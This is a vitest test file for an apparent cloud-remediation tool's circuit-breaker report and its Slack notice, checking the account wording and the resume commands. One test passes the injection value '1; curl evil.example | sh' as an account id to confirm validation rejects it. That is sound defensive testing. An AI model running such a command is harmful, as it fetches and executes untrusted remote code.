// The account breaker's report as it travels (the report contract) and as Slack shows it (the notifier's words): it
// names the account, and its resume command is Remedy's own, built from an account id the schema has checked.
import { describe, expect, it } from "vitest";
import { InvalidReportError, makeReport, parseReport } from "../../contract/report.ts";
import { accountBreakerNotice } from "../../functions/coordinator/breaker.ts";
import { renderNotice } from "../../functions/notifier/render.ts";
import { codeContents } from "../notifier/helpers.ts";
import { T0 } from "./support.ts";

const MEMBER = "111111111111";
const sighting = (n: number) => ({
  id: `i-${n}`,
  at: T0.toISOString(),
  label: `sg-open-ingress sg-${n} in ${MEMBER} us-east-1`,
  accountId: MEMBER,
});

function rendered(report: unknown) {
  return renderNotice({ kind: "report", report: parseReport(report) }).message;
}

describe("the account breaker's report", () => {
  const { report } = accountBreakerNotice(
    MEMBER,
    Array.from({ length: 21 }, (_, n) => sighting(n)),
    { accountFreshLimit: 20, windowMinutes: 10 },
  );

  it("is a valid breaker-tripped report naming the account", () => {
    expect(parseReport(makeReport(report, T0))).toMatchObject({ kind: "breaker-tripped", accountId: MEMBER });
  });

  it("says in Slack which account is paused, that the others are still fixed, and how to resume it", () => {
    const message = rendered(makeReport(report, T0));
    const text = JSON.stringify(message);
    expect(text).toContain(`Remedy paused account ${MEMBER}: circuit breaker tripped`);
    expect(text).toContain("other accounts are still fixed");
    expect(codeContents(message)).toContain(`remedy resume --account ${MEMBER}`);
  });

  it("the global trip's words and command are unchanged", () => {
    const { accountId: _account, ...global } = report;
    const message = rendered(makeReport({ ...global, resumeCommand: "remedy resume" }, T0));
    expect(JSON.stringify(message)).toContain("Remedy paused: circuit breaker tripped");
    expect(codeContents(message)).toContain("remedy resume");
    expect(codeContents(message).some((code) => code.includes("--account"))).toBe(false);
  });

  it("is refused when its account is not a 12-digit id (it would go into a command)", () => {
    expect(() => parseReport(makeReport({ ...report, accountId: "1; curl evil.example | sh" }, T0))).toThrow(
      InvalidReportError,
    );
  });
});
